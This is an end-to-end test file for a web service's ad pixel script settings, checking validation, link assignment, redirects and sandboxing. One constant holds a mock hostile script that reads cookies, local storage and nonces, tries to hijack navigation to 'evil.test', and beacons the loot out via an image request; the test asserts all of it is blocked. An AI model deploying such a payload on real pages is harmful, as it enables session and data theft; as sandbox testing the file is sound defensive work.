import { expect, inject, test } from 'vitest';
import { makeAccount, makeSubscriber, openSignedIn, storeLink, heading } from './account.ts';
import { expectGoodInEachLook, useBrowser } from './browser.ts';

const url = inject('serviceUrl');
const open = useBrowser();
const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

test('a pixel script is added, chosen for a link, and its page goes on though the provider does not answer', async () => {
  const person = await makeSubscriber();
  const alias = await storeLink(person);
  const { page, complaints, close } = await openSignedIn(open, {
    path: '/app/settings/pixel-scripts',
    person,
  });
  await page.getByText('No pixel scripts yet.').waitFor();
  await page.getByLabel('Name').fill('Our ads');
  await page.getByLabel('Id', { exact: true }).fill('not an id');
  await page.getByRole('button', { name: 'Add pixel script' }).click();
  await page.getByText('This is not an id of that provider.').waitFor();
  await expectGoodInEachLook(page);
  await page.getByLabel('Id', { exact: true }).fill('123456789012345');
  await page.getByRole('button', { name: 'Add pixel script' }).click();
  await page.getByText('Meta 123456789012345 · 0 links').waitFor();

  await page.goto(new URL('/app/dashboard', url).href);
  await page.locator('[data-open]').click();
  await page.getByRole('button', { name: 'Edit pixels' }).click();
  await page.getByRole('checkbox', { name: 'Our ads' }).check();
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await page.getByText('Saved.').waitFor();
  await expectGoodInEachLook(page);
  expect(complaints).toEqual([]);
  await expect.poll(async () => (await visit(alias)).status).toBe(200);

  // What drives the tests says that it is a program.
  await page.setExtraHTTPHeaders({ 'user-agent': CHROME });
  const destination = `https://example.com/${alias}`;
  await page.route('https://connect.facebook.net/**', () => new Promise(() => undefined));
  await page.route(destination, (route) => route.fulfill({ body: 'There.' }));
  await page.goto(new URL(`/${alias}`, url).href, { waitUntil: 'commit' });
  await page.waitForURL(destination);
  await close();
});

/** What a script would do that means harm, and tells with the next request for a picture. */
const HOSTILE = `(async () => {
  const found = {};
  const look = (name, read) => { try { found[name] = String(read()) } catch (error) { found[name] = 'refused' } };
  look('cookie', () => document.cookie);
  look('storage', () => JSON.stringify(localStorage));
  look('above', () => parent.document.cookie);
  look('origin', () => location.origin + self.origin);
  look('nonce', () => [...document.querySelectorAll('script')].map((script) => script.nonce).join(''));
  look('opened', () => window.open('/app/login') === null ? 'refused' : 'opened');
  look('stopped', () => { parent.left = true; for (let id = 0; id < 1000; id += 1) clearTimeout(id); window.stop(); return 'tried' });
  look('moved', () => { top.location = 'https://evil.test/'; return 'tried' });
  try { found.state = (await fetch('${url}app/api/state', { credentials: 'include' })).status } catch { found.state = 'refused' }
  new Image().src = 'https://www.facebook.com/tr?' + encodeURIComponent(JSON.stringify(found));
  await new Promise(() => undefined);
})()`;

test('a script that means harm reads and opens nothing of ours, and the visitor goes on', async () => {
  const person = await makeSubscriber();
  const alias = await storeLink(person);
  const { page, close } = await openSignedIn(open, { path: '/app/settings/pixel-scripts', person });
  await page.getByLabel('Name').fill('Our ads');
  await page.getByLabel('Id', { exact: true }).fill('123456789012345');
  await page.getByRole('button', { name: 'Add pixel script' }).click();
  await page.getByText('Meta 123456789012345 · 0 links').waitFor();
  await page.goto(new URL('/app/dashboard', url).href);
  await page.locator('[data-open]').click();
  await page.getByRole('button', { name: 'Edit pixels' }).click();
  await page.getByRole('checkbox', { name: 'Our ads' }).check();
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await page.getByText('Saved.').waitFor();
  await expect.poll(async () => (await visit(alias)).status).toBe(200);
  await page.setExtraHTTPHeaders({ 'user-agent': CHROME });
  await page.evaluate(() => {
    localStorage.setItem('mine', 'secret');
  });
  const told: string[] = [];
  await page.route('https://connect.facebook.net/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: HOSTILE }),
  );
  await page.route('https://www.facebook.com/**', (route) => {
    told.push(decodeURIComponent(new URL(route.request().url()).search.slice(1)));
    return route.fulfill({ status: 204 });
  });
  const destination = `https://example.com/${alias}`;
  await page.route(destination, (route) => route.fulfill({ body: 'There.' }));

  const before = page.context().pages().length;
  await page.goto(new URL(`/${alias}`, url).href, { waitUntil: 'commit' });
  await page.waitForURL(destination);

  expect(page.context().pages()).toHaveLength(before);
  await expect
    .poll(() => told.map((text) => JSON.parse(text) as unknown))
    .toEqual([
      {
        ...{ cookie: 'refused', storage: 'refused', above: 'refused', opened: 'refused', state: 'refused' },
        ...{ nonce: '', origin: 'nullnull', stopped: 'refused', moved: 'refused' },
      },
    ]);
  await close();
});

test('who is neither verified nor subscribed is led to verify the email', async () => {
  const person = await makeAccount({ isVerified: false });
  const { page, close } = await openSignedIn(open, { path: '/app/settings/profile', person });

  await page.goto(new URL('/app/settings/pixel-scripts', url).href);

  await heading(page, 'Verify your email').waitFor();
  await close();
});

function visit(alias: string): Promise<Response> {
  return fetch(new URL(`/${alias}`, url), { redirect: 'manual', headers: { 'user-agent': CHROME } });
}
